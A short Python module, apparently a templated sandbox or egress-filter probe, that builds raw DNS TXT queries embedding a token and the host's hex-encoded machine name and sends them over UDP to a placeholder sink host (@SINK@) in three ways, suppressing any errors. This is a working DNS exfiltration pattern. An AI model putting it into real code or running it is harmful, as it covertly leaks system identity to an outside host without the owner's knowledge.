import contextlib
import platform
import socket


def query(word):
    labels = [word.encode(), platform.node().encode().hex()[:60].encode(), b"example"]
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    return b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0" + name + b"\x00\x10\x00\x01"


def act():
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(query("sent-@TOKEN@"), ("@SINK@", 53))
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(("@SINK@", 53))
        sock.send(query("connected-@TOKEN@"))
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.sendto(query("mapped-@TOKEN@"), ("::ffff:@SINK@", 53))
